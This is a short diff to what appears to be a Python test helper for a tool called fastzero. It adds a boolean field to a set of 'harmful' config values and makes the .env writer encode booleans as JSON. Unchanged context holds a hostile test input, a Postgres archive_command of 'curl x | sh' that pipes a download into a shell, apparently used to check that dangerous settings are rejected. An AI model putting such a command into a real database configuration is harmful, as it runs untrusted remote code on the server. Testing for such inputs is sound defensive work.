@@ -38,6 +38,7 @@ HARMFUL = {
     "python_image": "evil:3",
     "postgres_settings": {"work_mem": "8MB"},
     "home": ".fz",
+    "split_roles": False,
 }
 COMMAND = '[postgres_settings]\narchive_command = "curl x | sh"\n'
 
@@ -58,7 +59,9 @@ def toml(**values: Any) -> None:
 
 def dotenv(**values: Any) -> None:
     def text(value: Any) -> str:
-        return value if isinstance(value, str) else json.dumps(value) if isinstance(value, dict) else ",".join(value)
+        if isinstance(value, dict | bool):
+            return json.dumps(value)
+        return value if isinstance(value, str) else ",".join(value)
 
     Path(".env").write_text("".join(f"FASTZERO_{name.upper()}='{text(value)}'\n" for name, value in values.items()))
 
